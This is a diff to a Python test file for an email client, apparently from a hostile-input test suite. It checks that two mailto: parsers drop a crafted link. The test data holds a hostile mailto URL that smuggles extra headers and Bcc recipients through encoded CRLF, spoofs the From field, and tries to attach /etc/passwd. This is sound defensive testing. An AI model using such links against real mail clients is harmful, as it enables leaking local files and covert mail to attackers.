@@ -19,6 +19,7 @@ from pymailgui.devserver.smtpscripted import ScriptedSMTPServer
 from pymailgui.errors import MessageError
 from pymailgui.message import Attachment, Draft, Identity, build_message, forward, reply
 from pymailgui.message.drafts import draft_bytes, read_draft
+from pymailgui.message.mailto import parse_mailto
 from pymailgui.store import OUTBOX
 from tests.hostile.conftest import AccountMaker
 from tests.hostile.shapes import crlf_only, header_names, hostile_headers, message_with
@@ -158,25 +159,41 @@ def test_bodies_go_out_crlf_only_and_dot_stuffed(
     assert got.rstrip("\n") == expected.rstrip("\n")
 
 
-def test_a_mailto_link_never_attaches_a_local_file_or_injects_a_header(
-    make_scripted_smtp: MakeSMTP, hostile_account: AccountMaker
-) -> None:
-    # The GUI turns mailto: links into drafts (gui/compose.py); RFC 6068 has no
-    # attachment field, yet some clients honoured "attach=" (CVE-2020-4049 class).
+HOSTILE_MAILTO = (
+    "mailto:bob@example.org?subject=hi%0D%0ABcc:%20evil@example.net"
+    "&attach=/etc/passwd&attachment=file:///etc/passwd&body=see%0D%0A.%0D%0Aattached"
+    "&bcc=evil2@example.net%0D%0AX-Evil:%201&from=boss@example.org"
+)
+
+
+def core_mailto(url: str) -> Draft:
+    return parse_mailto(url).draft
+
+
+def gui_mailto(url: str) -> Draft:
+    # The compose window's own parser (gui/compose.py) until it uses message.mailto.
     qt_core = pytest.importorskip("PySide6.QtCore", exc_type=ImportError)
     from pymailgui.gui.compose import draft_from_mailto
 
-    url = qt_core.QUrl(
-        "mailto:bob@example.org?subject=hi%0D%0ABcc:%20evil@example.net"
-        "&attach=/etc/passwd&attachment=file:///etc/passwd&body=see%0D%0A.%0D%0Aattached"
-        "&bcc=evil2@example.net%0D%0AX-Evil:%201"
-    )
-    draft = draft_from_mailto(url)
-    assert draft.attachments == [] and draft.bcc == []
+    return draft_from_mailto(qt_core.QUrl(url))
+
+
+@pytest.mark.parametrize("parse", [core_mailto, gui_mailto], ids=["core", "gui"])
+def test_a_mailto_link_never_attaches_a_local_file_or_injects_a_header(
+    make_scripted_smtp: MakeSMTP, hostile_account: AccountMaker, parse: Callable[[str], Draft]
+) -> None:
+    # RFC 6068 has no attachment field, yet some clients honoured "attach=" (a web
+    # page could mail itself ~/.ssh/id_rsa); no field may add a header or a recipient.
+    draft = parse(HOSTILE_MAILTO)
+    assert draft.attachments == [] and draft.extra_headers == []
     server = make_scripted_smtp(tls=False)
     account = hostile_account(smtp=server)
-    account.send(draft)
+    try:
+        account.send(draft)
+    except MessageError:
+        assert server.sessions == []  # refused before anything went out: fine too
+        return
     (delivery,) = server.sessions[0].deliveries
-    assert delivery.rcpt_tos == ["bob@example.org"]
+    assert delivery.rcpt_tos == ["bob@example.org"]  # the broken Bcc field was dropped
     assert set(header_names(delivery.content)) <= OUR_FIELDS
-    assert b"root:" not in delivery.content
+    assert b"root:" not in delivery.content and b"boss@example.org" not in delivery.content
